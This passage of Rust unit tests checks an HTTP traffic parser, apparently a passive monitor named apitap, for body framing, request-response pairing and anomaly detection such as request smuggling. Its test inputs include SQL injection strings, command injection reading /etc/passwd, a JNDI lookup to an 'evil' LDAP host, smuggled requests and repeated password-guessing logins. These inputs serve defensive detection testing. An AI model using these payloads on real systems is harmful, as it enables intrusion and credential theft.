            ..HttpConfig::default()
        };
        let body: Vec<u8> = (0..5000u32).map(|i| (i * 7 % 251) as u8).collect();
        let chunked = |b: &[u8], size: usize| {
            let mut v: Vec<u8> = Vec::new();
            for c in b.chunks(size) {
                v.extend(format!("{:x}\r\n", c.len()).as_bytes());
                v.extend(c);
                v.extend(b"\r\n");
            }
            v.extend(b"0\r\n\r\n");
            v
        };
        // (response bytes, body length on the wire, Content-Length framing: kept exactly)
        let mut cases: Vec<(Vec<u8>, usize, bool)> = Vec::new();
        for n in [0, 1, 7, 999, 1000, 1001, 5000] {
            let mut r = format!("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {n}\r\n\r\n")
                .into_bytes();
            r.extend(&body[..n]);
            cases.push((r, n, true));
            for size in [1, 3, 64, 4096] {
                let mut r =
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
                r.extend(chunked(&body[..n], size));
                cases.push((r, n, false));
            }
        }
        // a length far beyond what comes (the connection closes after 10 bytes), and a body
        // delimited by the close
        let mut r = b"HTTP/1.1 200 OK\r\nContent-Length: 1000000000000\r\n\r\n".to_vec();
        r.extend(&body[..10]);
        cases.push((r, 10, false));
        let mut r = b"HTTP/1.0 200 OK\r\n\r\n".to_vec();
        r.extend(&body[..3000]);
        cases.push((r, 3000, false));
        for (resp, n, exact) in &cases {
            for seg in [1, 5, 100, 1448, usize::MAX] {
                let mut c = Conn::new(Some(0), &cfg);
                c.data(0, b"GET / HTTP/1.1\r\n\r\n", 0, None, &cfg);
                for (i, p) in resp.chunks(seg.min(resp.len())).enumerate() {
                    c.data(1, p, i as u64 + 1, None, &cfg);
                }
                c.flush(99_000, &cfg);
                let (mut t, mut a) = (vec![], vec![]);
                c.take(&mut t, &mut a);
                let r = t[0].response.as_ref().expect("response");
                let want = &body[..(*n).min(depth)];
                assert_eq!((r.body.as_slice(), r.body_len), (want, *n as u64), "n {n} seg {seg}");
                assert!(r.body.capacity() <= 2 * depth, "n {n} seg {seg}: {}", r.body.capacity());
                if *exact && *n > 0 && seg == usize::MAX {
                    // (a body that came whole: one allocation of its size)
                    assert_eq!(r.body.capacity(), (*n).min(depth), "n {n} seg {seg}");
                }
            }
        }
        // the hostile length reserves for what came, not what it claims
        let mut c = Conn::new(Some(0), &cfg);
        c.data(0, b"GET / HTTP/1.1\r\n\r\n", 0, None, &cfg);
        c.data(1, &cases[cases.len() - 2].0, 1, None, &cfg);
        c.flush(99_000, &cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let r = t[0].response.as_ref().expect("response");
        assert!(r.truncated && r.body.capacity() <= 40, "{}", r.body.capacity());
        // with a deep body_depth, what a claimed length reserves follows the bytes that came:
        // 10 bytes of a claimed terabyte hold at most 40, not the 4 MiB depth; 100 KB that
        // came of it are kept whole in at most 4x their size
        let deep = HttpConfig {
            body_depth: 4 << 20,
            ..HttpConfig::default()
        };
        for (sent, most) in [(1, 4), (10, 40), (100_000, 400_000)] {
            let mut c = Conn::new(Some(0), &deep);
            c.data(0, b"GET / HTTP/1.1\r\n\r\n", 0, None, &deep);
            c.data(
                1,
                b"HTTP/1.1 200 OK\r\nContent-Length: 1000000000000\r\n\r\n",
                1,
                None,
                &deep,
            );
            let piece = vec![b'x'; sent];
            for (i, p) in piece.chunks(1448).enumerate() {
                c.data(1, p, i as u64 + 2, None, &deep);
            }
            c.flush(99_000, &deep);
            let (mut t, mut a) = (vec![], vec![]);
            c.take(&mut t, &mut a);
            let r = t[0].response.as_ref().expect("response");
            assert_eq!(r.body.len(), sent);
            assert!(
                r.body.capacity() <= most,
                "{sent} bytes sent: capacity {}",
                r.body.capacity()
            );
        }
    }

    #[test]
    fn pipelined_head_chunked_and_close_delimited() {
        let t = run(&[
            (0, b"GET /a HTTP/1.1\r\nHost: x\r\n\r\nHEAD /b HTTP/1.1\r\nHost: x\r\n\r\nPOST /c HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc"),
            (1, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhiHTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n"),
            (1, b"HTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nwiki\r\n5;ext=1\r\npedia\r\n0\r\nX-T: 1\r\n\r\n"),
            (0, b"GET /d HTTP/1.0\r\n\r\n"),
            (1, b"HTTP/1.0 200 OK\r\n\r\nuntil close"),
        ]);
        let got: Vec<_> = t.iter().map(line).collect();
        assert_eq!(
            got,
            vec![
                ("GET".into(), "/a".into(), 200, 0, 2),
                ("HEAD".into(), "/b".into(), 200, 0, 0),
                ("POST".into(), "/c".into(), 201, 3, 9),
                ("GET".into(), "/d".into(), 200, 0, 11),
            ]
        );
        assert!(t.iter().all(|t| !t.gap && !t.truncated));
    }

    #[test]
    fn continue_and_upgrade() {
        let t = run(&[
            (
                0,
                b"PUT /u HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n",
            ),
            (1, b"HTTP/1.1 100 Continue\r\n\r\n"),
            (0, b"data"),
            (1, b"HTTP/1.1 204 No Content\r\n\r\n"),
            (
                0,
                b"GET /ws HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
            ),
            (
                1,
                b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello",
            ),
            (0, b"\x81\x85garbage that is not http"),
        ]);
        let got: Vec<_> = t.iter().map(line).collect();
        assert_eq!(
            got,
            vec![
                ("PUT".into(), "/u".into(), 204, 4, 0),
                ("GET".into(), "/ws".into(), 101, 0, 0)
            ]
        );
    }

    #[test]
    fn split_at_every_offset_gives_the_same_transactions() {
        let req: &[u8] =
            b"POST /api/x?q=1 HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n";
        let resp: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 7\r\n\r\n{\"a\":1}";
        let whole = run(&[(0, req), (1, resp)]).iter().map(line).collect::<Vec<_>>();
        assert_eq!(whole, vec![("POST".into(), "/api/x?q=1".into(), 200, 3, 7)]);
        for i in 0..=req.len() {
            for j in [0, resp.len() / 2, resp.len()] {
                let t = run(&[(0, &req[..i]), (0, &req[i..]), (1, &resp[..j]), (1, &resp[j..])]);
                assert_eq!(t.iter().map(line).collect::<Vec<_>>(), whole, "split at {i}/{j}");
            }
        }
    }

    #[test]
    fn midstream_roles_found_from_data() {
        let cfg = HttpConfig::default();
        let mut c = Conn::new(None, &cfg);
        c.data(
            1,
            b"ody of something earlier\r\nGET /x HTTP/1.1\r\nHost: a\r\n\r\n",
            1,
            None,
            &cfg,
        );
        c.data(0, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n", 2, None, &cfg);
        assert_eq!(c.client(), Some(1));
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let t = unboxed(t);
        assert_eq!(
            t.iter().map(line).collect::<Vec<_>>(),
            vec![("GET".into(), "/x".into(), 404, 0, 0)]
        );
    }

    #[test]
    fn lost_request_does_not_shift_pairing() {
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        let r1 = b"GET /1 HTTP/1.1\r\n\r\n";
        c.data(0, r1, 1, None, &cfg);
        c.data(
            1,
            b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n1",
            2,
            Some(r1.len() as u64),
            &cfg,
        );
        // request 2 lost entirely
        c.gap(0, 19, 3, &cfg);
        c.data(1, b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n2", 4, Some(38), &cfg);
        c.data(0, b"GET /3 HTTP/1.1\r\n\r\n", 5, None, &cfg);
        c.data(1, b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n3", 6, Some(57), &cfg);
        c.flush(7, &cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let t = unboxed(t);
        let got: Vec<_> = t
            .iter()
            .map(|t| (line(t).1, t.response.as_ref().map(|r| r.body.clone()), t.gap))
            .collect();
        assert_eq!(
            got,
            vec![
                ("/1".into(), Some(b"1".to_vec()), false),
                ("".into(), Some(b"2".to_vec()), true),
                ("/3".into(), Some(b"3".to_vec()), false),
            ]
        );
    }
}

#[cfg(test)]
mod evasion_tests {
    use super::tests::unboxed;
    use super::*;

    fn anomalies(chunks: &[(usize, &[u8])]) -> (Vec<Transaction>, Vec<HttpAnomaly>) {
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        for (i, (d, b)) in chunks.iter().enumerate() {
            c.data(*d, b, i as u64, None, &cfg);
        }
        c.flush(99, &cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let t = unboxed(t);
        (t, a)
    }

    #[test]
    fn smuggling_shapes_are_reported() {
        // CL.TE: both framings; chunked wins (RFC 9112 §6.3) and it is an anomaly
        let (t, a) = anomalies(&[(
            0,
            b"POST / HTTP/1.1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
        )]);
        assert!(a.contains(&HttpAnomaly::ContentLengthAndChunked), "{a:?}");
        assert_eq!(t[0].request.as_ref().map(|m| m.body_len), Some(0));
        // TE.CL, with an obfuscated Transfer-Encoding
        let (_, a) = anomalies(&[(
            0,
            b"POST / HTTP/1.1\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n5c\r\n",
        )]);
        assert!(
            a.contains(&HttpAnomaly::ContentLengthAndChunked) && a.contains(&HttpAnomaly::UnknownTransferEncoding),
            "{a:?}"
        );
        // duplicate, different Content-Length
        let (_, a) = anomalies(&[(
            0,
            b"POST / HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nabc",
        )]);
        assert!(a.contains(&HttpAnomaly::MultipleContentLength), "{a:?}");
        // obs-fold in a request header
        let (_, a) = anomalies(&[(0, b"GET / HTTP/1.1\r\nX: a\r\n b\r\n\r\n")]);
        assert!(a.contains(&HttpAnomaly::ObsFold), "{a:?}");
    }
}

/// Issue 12: nothing a server accepts is hidden from apitap (parser parity with nginx).
#[cfg(test)]
mod parity_tests {
    use super::tests::unboxed;
    use super::*;

    fn run_cfg(cfg: &HttpConfig, chunks: &[(usize, &[u8])]) -> (Vec<Transaction>, Vec<HttpAnomaly>, Conn) {
        let mut c = Conn::new(Some(0), cfg);
        for (i, (d, b)) in chunks.iter().enumerate() {
            c.data(*d, b, i as u64, None, cfg);
        }
        c.flush(99_999, cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let t = unboxed(t);
        (t, a, c)
    }

    fn run(chunks: &[(usize, &[u8])]) -> (Vec<Transaction>, Vec<HttpAnomaly>) {
        let (t, a, _) = run_cfg(&HttpConfig::default(), chunks);
        (t, a)
    }

    /// (method, target, status) of each transaction.
    fn mts(t: &[Transaction]) -> Vec<(String, String, u16)> {
        t.iter()
            .map(|t| {
                (
                    t.request.as_ref().map_or(String::new(), |m| m.method.clone()),
                    t.request.as_ref().map_or(String::new(), |m| m.uri.clone()),
                    t.response.as_ref().map_or(0, |m| m.status),
                )
            })
            .collect()
    }

    fn s(m: &str, u: &str, st: u16) -> (String, String, u16) {
        (m.to_string(), u.to_string(), st)
    }

    const R405: &[u8] = b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n";
    const R200: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

    #[test]
    fn unusual_first_method_does_not_hide_the_connection() {
        for m in ["AB", "ABCDEFGHIJKLMNOPQRSTU", "get", "M-SEARCH"] {
            let first = format!("{m} / HTTP/1.1\r\nHost: a\r\n\r\n");
            let (t, _) = run(&[
                (0, first.as_bytes()),
                (1, R405),
                (0, b"GET /echo?id=1'%20OR%201=1-- HTTP/1.1\r\nHost: a\r\n\r\n"),
                (1, R200),
            ]);
            assert_eq!(
                mts(&t),
                vec![s(m, "/", 405), s("GET", "/echo?id=1'%20OR%201=1--", 200)],
                "{m}"
            );
        }
    }

    #[test]
    fn junk_before_the_first_request_is_skipped_with_an_anomaly() {
        let (t, a) = run(&[
            (0, b"\x01\x02junk junk\r\nGET /after-junk HTTP/1.1\r\nHost: a\r\n\r\n"),
            (1, R200),
        ]);
        assert_eq!(mts(&t), vec![s("GET", "/after-junk", 200)]);
        assert!(a.contains(&HttpAnomaly::JunkBeforeMessage), "{a:?}");
        // a direction that never shows a request line is still not HTTP, quietly
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        c.data(0, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 1, None, &cfg);
        assert!(c.not_http());
    }

    #[test]
    fn junk_sent_alone_in_its_own_segment_does_not_hide_the_connection() {
        // a stray text line in the first segment, the request in the next: nginx skips the
        // line (400 or ignores it) and serves the request; apitap must not call the flow "not
        // HTTP" on the first segment alone
        let (t, a) = run(&[
            (0, b"hello there\r\n"),
            (0, b"GET /second?cmd=;cat%20/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
            (1, R200),
        ]);
        assert_eq!(mts(&t), vec![s("GET", "/second?cmd=;cat%20/etc/passwd", 200)]);
        assert!(a.contains(&HttpAnomaly::JunkBeforeMessage), "{a:?}");
        // a junk line that ends at the start of the next segment does not eat the request
        let (t, _) = run(&[
            (0, b"<<junk>>"),
            (0, b"\r\nGET /third HTTP/1.1\r\nHost: a\r\n\r\n"),
            (1, R200),
        ]);
        assert_eq!(mts(&t), vec![s("GET", "/third", 200)]);
        // text that never turns into HTTP is given up after MAX_JUNK bytes, binary at once
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        for i in 0..200 {
            c.data(
                0,
                b"SSH-2.0-OpenSSH_9.2p1 Debian-2 padding padding padding padding padding\r\n",
                i,
                None,
                &cfg,
            );
            c.data(0, &[b'x'; 400], i, None, &cfg);
        }
        assert!(c.not_http());
        let mut c = Conn::new(Some(0), &cfg);
        c.data(0, b"SSH-2.0-OpenSSH_9.2p1\r\n", 1, None, &cfg);
        assert!(!c.not_http());
        c.data(0, b"\x00\x00\x05\xdc\x0a\x14\x9b", 2, None, &cfg);
        assert!(c.not_http());
    }

    #[test]
    fn request_lines_nginx_accepts_are_reported() {
        let (t, a) = run(&[
            (0, b"GET /v12?q=1'%20UNION%20SELECT HTTP/1.2\r\nHost: a\r\n\r\n"),
            (1, R200),
            (0, b"GET /v19 HTTP/1.9\r\nHost: a\r\n\r\n"),
            (1, R200),
            (0, b"GET /v101 HTTP/1.01\r\nHost: a\r\n\r\n"),
            (1, R200),
            (0, b"GET /trailing HTTP/1.1  \r\nHost: a\r\n\r\n"),
            (1, R200),
            (0, b"GET /a b HTTP/1.1\r\nHost: a\r\n\r\n"),
            (1, R200),
            (0, b"GET HTTP/1.1\r\nHost: a\r\n\r\n"),
            (1, R200),
        ]);
        assert_eq!(
            mts(&t),
            vec![
                s("GET", "/v12?q=1'%20UNION%20SELECT", 200),
                s("GET", "/v19", 200),
                s("GET", "/v101", 200),
                s("GET", "/trailing", 200),
                s("GET", "/a b", 200),
                s("GET", "", 200),
            ]
        );
        assert!(
            t.iter()
                .all(|t| t.request.as_ref().is_some_and(|m| m.header("host") == Some("a")))
        );
        assert_eq!(t[2].request.as_ref().map(|m| m.minor), Some(1));
        assert!(a.contains(&HttpAnomaly::UnusualStartLine), "{a:?}");
        // CONNECT with a space in its target: reported, then the tunnel
        let (t, _) = run(&[
            (0, b"CONNECT a b:443 HTTP/1.1\r\n\r\n"),
            (1, b"HTTP/1.1 200 Connection established\r\n\r\n"),
        ]);
        assert_eq!(mts(&t), vec![s("CONNECT", "a b:443", 200)]);
    }

    /// A HEAD over HTTP/1.2 followed by 30 failed logins: every login pairs with its 401.
    #[test]
    fn head_over_http_1_2_pairs_every_later_response() {
        let mut chunks: Vec<(usize, Vec<u8>)> = vec![
            (0, b"HEAD /login HTTP/1.2\r\nHost: a\r\n\r\n".to_vec()),
            (1, b"HTTP/1.1 200 OK\r\nContent-Length: 512\r\n\r\n".to_vec()),
        ];
        for i in 0..30 {
            let body = format!("user=admin&password=guess{i}");
            chunks.push((
                0,
                format!(
                    "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                )
                .into_bytes(),
            ));
            chunks.push((1, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n".to_vec()));
        }
        let refs: Vec<(usize, &[u8])> = chunks.iter().map(|(d, b)| (*d, b.as_slice())).collect();
        let (t, _) = run(&refs);
        assert_eq!(t.len(), 31);
        assert_eq!(mts(&t[..1]), vec![s("HEAD", "/login", 200)]);
        assert!(
            t[1..]
                .iter()
                .all(|t| t.response.as_ref().map(|r| r.status) == Some(401))
        );
    }

    /// A response whose request was never seen announces a body, but a status line follows
    /// at once: a HEAD's response; the next response is not swallowed.
    #[test]
    fn response_to_an_unseen_head_does_not_swallow_the_next() {
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        c.gap(0, 40, 1, &cfg);
        c.data(
            1,
            b"HTTP/1.1 200 OK\r\nContent-Length: 512\r\n\r\nHTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n",
            2,
            None,
            &cfg,
        );
        c.flush(3, &cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let t = unboxed(t);
        let st: Vec<u16> = t.iter().filter_map(|t| t.response.as_ref().map(|r| r.status)).collect();
        assert_eq!(st, vec![200, 401]);
        assert!(a.contains(&HttpAnomaly::ResponseWithoutBody), "{a:?}");
    }

    #[test]
    fn http_0_9_request_and_reply_until_close() {
        let (t, a) = run(&[(0, b"GET /old-school\r\n"), (1, b"<html>hello</html>")]);
        assert_eq!(t.len(), 1);
        let q = t[0].request.as_ref().expect("request");
        assert_eq!(
            (q.method.as_str(), q.uri.as_str(), q.protocol()),
            ("GET", "/old-school", "HTTP/0.9")
        );
        let r = t[0].response.as_ref().expect("reply");
        assert_eq!(r.body, b"<html>hello</html>");
        assert!(r.http09);
        assert!(a.contains(&HttpAnomaly::UnusualStartLine), "{a:?}");
    }

    #[test]
    fn lower_case_version_and_non_numeric_status_are_responses() {
        let (t, a) = run(&[
            (0, b"GET /a HTTP/1.1\r\n\r\n"),
            (1, b"http/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"),
            (0, b"GET /b HTTP/1.1\r\n\r\n"),
            (1, b"HTTP/1.1 2XX Weird\r\nContent-Length: 1\r\n\r\ny"),
            (0, b"GET /c HTTP/1.1\r\n\r\n"),
            (1, R200),
        ]);
        assert_eq!(
            mts(&t),
            vec![s("GET", "/a", 200), s("GET", "/b", 0), s("GET", "/c", 200)]
        );
        assert_eq!(t[1].response.as_ref().map(|r| r.body.clone()), Some(b"y".to_vec()));
        assert!(a.contains(&HttpAnomaly::InvalidStatus), "{a:?}");
    }

    #[test]
    fn chunk_sizes_with_leading_zeros_frame_one_body() {
        let smuggled = b"GET /smuggled?cmd=;id HTTP/1.1\r\nHost: a\r\n\r\n";
        let mut req = b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
        req.extend(format!("{:017x}\r\n", smuggled.len()).as_bytes());
        req.extend(smuggled);
        req.extend(b"\r\n0000\r\n\r\n");
        let (t, a) = run(&[(0, &req), (1, R200), (0, b"GET /next HTTP/1.1\r\n\r\n"), (1, R200)]);
        assert_eq!(
            mts(&t),
            vec![s("POST", "/upload", 200), s("GET", "/next", 200)],
            "{a:?}"
        );
        let q = t[0].request.as_ref().expect("request");
        assert_eq!(q.body, smuggled, "the body is inspected");
        assert!(!q.truncated && a.is_empty(), "{a:?}");
    }

    #[test]
    fn chunk_size_overflow_is_an_anomaly() {
        let (t, a) = run(&[(
            0,
            b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\nabc\r\n0\r\n\r\n",
        )]);
        assert!(a.contains(&HttpAnomaly::ChunkSizeOverflow), "{a:?}");
        assert_eq!(
            t.first().and_then(|t| t.request.as_ref()).map(|m| m.truncated),
            Some(true)
        );
    }

    #[test]
    fn pipeline_deeper_than_max_pending_keeps_pairing_exact() {
        let n = 100;
        let mut reqs = Vec::new();
        let mut resps = Vec::new();
        for i in 0..n {
            let m = if i % 7 == 3 { "HEAD" } else { "GET" };
            reqs.extend(format!("{m} /r{i} HTTP/1.1\r\nHost: a\r\n\r\n").as_bytes());
            let body = format!("{i}");
            resps.extend(format!("HTTP/1.1 200 OK\r\nX-I: {i}\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes());
            if m != "HEAD" {
                resps.extend(body.as_bytes());
            }
        }
        let cfg = HttpConfig {
            max_pending: 64,
            ..HttpConfig::default()
        };
        let (t, a, c) = run_cfg(&cfg, &[(0, &reqs), (1, &resps)]);
        assert!(a.contains(&HttpAnomaly::TooManyPipelined));
        assert_eq!(t.len(), n);
        for tx in &t {
            let q = tx.request.as_ref().expect("every request is reported");
            let i: u16 = q.uri[2..].parse().expect("index");
            if let Some(r) = &tx.response {
                let got = r.header("x-i").and_then(|v| v.parse::<u16>().ok());
                assert_eq!(got, Some(i), "{} paired with the response of another request", q.uri);
            }
        }
        let answered = t.iter().filter(|t| t.response.is_some()).count();
        assert_eq!(answered as u64 + c.q.evicted_responses, n as u64);
        assert!(answered >= 64, "{answered}");
    }

    /// With the default caps, 100 pipelined requests are all held and all paired.
    #[test]
    fn a_hundred_pipelined_requests_are_all_paired_by_default() {
        let mut reqs = Vec::new();
        let mut resps = Vec::new();
        for i in 0..100 {
            reqs.extend(format!("GET /r{i} HTTP/1.1\r\n\r\n").as_bytes());
            resps.extend(format!("HTTP/1.1 200 OK\r\nX-I: {i}\r\nContent-Length: 0\r\n\r\n").as_bytes());
        }
        let (t, a) = run(&[(0, &reqs), (1, &resps)]);
        assert!(!a.contains(&HttpAnomaly::TooManyPipelined));
        assert_eq!(t.len(), 100);
        for (i, tx) in t.iter().enumerate() {
            let x = tx.response.as_ref().and_then(|r| r.header("x-i")).map(String::from);
            assert_eq!(x, Some(i.to_string()));
        }
    }

    /// Requests with large kept bodies are bounded by bytes, not only by count.
    #[test]
    fn pending_requests_are_capped_by_bytes() {
        let body = "b".repeat(60_000);
        let mut reqs = Vec::new();
        for i in 0..40 {
            reqs.extend(format!("POST /u{i} HTTP/1.1\r\nContent-Length: {}\r\n\r\n{body}", body.len()).as_bytes());
        }
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        c.data(0, &reqs, 1, None, &cfg);
        assert!(c.q.pending_bytes <= MAX_PENDING_BYTES + 70_000, "{}", c.q.pending_bytes);
        assert!(c.q.anomalies.contains(&HttpAnomaly::TooManyPipelined));
    }

    #[test]
    fn control_bytes_in_header_values_are_kept() {
        let (t, a) = run(&[
            (
                0,
                b"GET /api HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://evil/a}\x7f\r\nX-B: a\x01b\r\n\r\n",
            ),
            (1, R200),
        ]);
        let q = t[0].request.as_ref().expect("request");
        assert_eq!(q.header("x-api-version"), Some("${jndi:ldap://evil/a}\x7f"));
        assert_eq!(q.header("x-b"), Some("a\x01b"));
        assert_eq!(q.header("host"), Some("a"));
        assert!(a.contains(&HttpAnomaly::HeaderControlChar), "{a:?}");
    }

    #[test]
    fn head_over_max_head_keeps_the_request_truncated() {
        let mut head = b"GET /big?q=1'%20OR%201=1-- HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n".to_vec();
        let line = format!("X-Pad: {}\r\n", "a".repeat(1000));
        let mut chunks: Vec<(usize, Vec<u8>)> = vec![(0, std::mem::take(&mut head))];
        for _ in 0..80 {
            chunks.push((0, line.as_bytes().to_vec()));
        }
        chunks.push((0, b"\r\nhello".to_vec()));
        chunks.push((1, R200.to_vec()));
        chunks.push((0, b"GET /after HTTP/1.1\r\n\r\n".to_vec()));
        chunks.push((1, R200.to_vec()));
        let refs: Vec<(usize, &[u8])> = chunks.iter().map(|(d, b)| (*d, b.as_slice())).collect();
        let (t, a) = run(&refs);
        assert!(a.contains(&HttpAnomaly::HeadTooLong), "{a:?}");
        assert_eq!(
            mts(&t),
            vec![s("GET", "/big?q=1'%20OR%201=1--", 200), s("GET", "/after", 200)]
        );
        let q = t[0].request.as_ref().expect("request");
        assert!(t[0].truncated && q.truncated);
        assert_eq!(q.header("host"), Some("a"));
        assert_eq!(q.body, b"hello");
    }

    /// A head over max_head that never ends (the connection closes inside it) is still
    /// reported, truncated.
    #[test]
    fn head_over_max_head_cut_by_the_end_of_the_stream_is_reported() {
        let mut head = b"POST /cut?x=1 HTTP/1.1\r\nContent-Length: 5\r\n".to_vec();
        head.extend(format!("X-Pad: {}\r\n", "a".repeat(70_000)).as_bytes());
        head.extend(b"X-Half: unfinis");
        let (t, a) = run(&[(0, &head[..30_000]), (0, &head[30_000..])]);
        assert!(a.contains(&HttpAnomaly::HeadTooLong), "{a:?}");
        assert_eq!(mts(&t), vec![s("POST", "/cut?x=1", 0)]);
        assert!(t[0].truncated);
    }

    #[test]
    fn content_length_above_i64_max_is_invalid_and_what_follows_is_the_next_request() {
        let (t, a) = run(&[
            (
                0,
                b"POST /a HTTP/1.1\r\nContent-Length: 18446744073709551615\r\n\r\nGET /b HTTP/1.1\r\n\r\n",
            ),
            (1, R200),
            (1, R200),
        ]);
        assert!(a.contains(&HttpAnomaly::InvalidContentLength), "{a:?}");
        assert_eq!(mts(&t), vec![s("POST", "/a", 200), s("GET", "/b", 200)]);
    }

    #[test]
    fn duplicate_x_forwarded_for_lines_are_kept_in_order() {
        let (t, _) = run(&[(
            0,
            b"GET / HTTP/1.1\r\nX-Forwarded-For: 1.1.1.1\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n",
        )]);
        let q = t[0].request.as_ref().expect("request");
        assert_eq!(
            q.header_values("x-forwarded-for").collect::<Vec<_>>(),
            vec!["1.1.1.1", "203.0.113.9"]
        );
    }

    /// The lenient start-line and header paths and the resumed end-of-head scan give the same
    /// transactions wherever the stream is cut.
    #[test]
    fn unusual_shapes_split_at_every_offset_give_the_same_transactions() {
        let req: &[u8] = b"AB /x HTTP/1.2 \r\nX-A: v\x7f\r\nTransfer-Encoding: chunked\r\n\r\n0003\r\nabc\r\n0\r\n\r\n\
GET /a b HTTP/1.01\r\nHost: h\r\n\n";
        let resp: &[u8] = b"http/1.1 200 OK\r\nContent-Length: 1\r\n\r\nxHTTP/1.1 2XX ?\r\nContent-Length: 0\r\n\r\n";
        let (whole, _) = run(&[(0, req), (1, resp)]);
        assert_eq!(mts(&whole), vec![s("AB", "/x", 200), s("GET", "/a b", 0)]);
        for i in 0..=req.len() {
            for j in [0, 10, resp.len() - 20, resp.len()] {
                let (t, _) = run(&[(0, &req[..i]), (0, &req[i..]), (1, &resp[..j]), (1, &resp[j..])]);
                assert_eq!(mts(&t), mts(&whole), "split at {i}/{j}");
                let q = t[0].request.as_ref().expect("request");
                assert_eq!(
                    (q.header("x-a"), q.body.as_slice()),
                    (Some("v\x7f"), &b"abc"[..]),
                    "split at {i}"
                );
            }
        }
    }

    /// Apache answers 400 as soon as it reads a bad request line, before the head is complete:
    /// the response pairs with that request, not with a phantom before it.
    #[test]
    fn response_before_the_request_head_completes_is_paired() {
        let (t, _) = run(&[
            (0, b"GET /ok HTTP/1.1\r\n\r\n"),
            (1, R200),
            (0, b"DELETE  /bad HTTP/1.0\r\nHost: a\r\nX-Long: "),
            (
                1,
                b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            ),
            (0, b"still arriving\r\n\r\n"),
        ]);
        assert_eq!(mts(&t), vec![s("GET", "/ok", 200), s("DELETE", "/bad", 400)]);
        assert!(t.iter().all(|t| !t.gap));
    }

    /// The request whose head was still arriving when its response started is lost in a gap:
    /// the response is reported alone and later pairs are not held back.
    #[test]
    fn early_response_whose_request_is_lost_does_not_block_later_pairs() {
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        let (q1, q2): (&[u8], &[u8]) = (b"GET /partial HTTP/1.1\r\nX-A: ", b"GET /next HTTP/1.1\r\n\r\n");
        c.data(0, q1, 1, None, &cfg);
        let r400: &[u8] = b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n";
        c.data(1, r400, 2, Some(q1.len() as u64), &cfg);
        c.gap(0, 100, 3, &cfg);
        c.data(0, q2, 4, None, &cfg);
        // the server's acknowledgement says it had received the whole of /next
        c.data(1, R200, 5, Some((q1.len() + 100 + q2.len()) as u64), &cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let t = unboxed(t);
        assert_eq!(
            mts(&t),
            vec![s("", "", 400), s("GET", "/next", 200)],
            "before the flush"
        );
    }

    /// A head arriving a byte at a time is scanned for its end once, not from byte 0 per byte,
    /// and gives the same message as in one piece.
    #[test]
    fn partial_head_is_scanned_once() {
        let head = format!(
            "GET /slow HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\n\r\n",
            "b".repeat(20_000)
        );
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        let t0 = std::time::Instant::now();
        for (i, b) in head.as_bytes().chunks(1).enumerate() {
            c.data(0, b, i as u64, None, &cfg);
        }
        let per_byte = t0.elapsed();
        c.data(1, R200, 1 << 20, None, &cfg);
        c.flush(1 << 21, &cfg);
        let (mut t, mut a) = (vec![], vec![]);
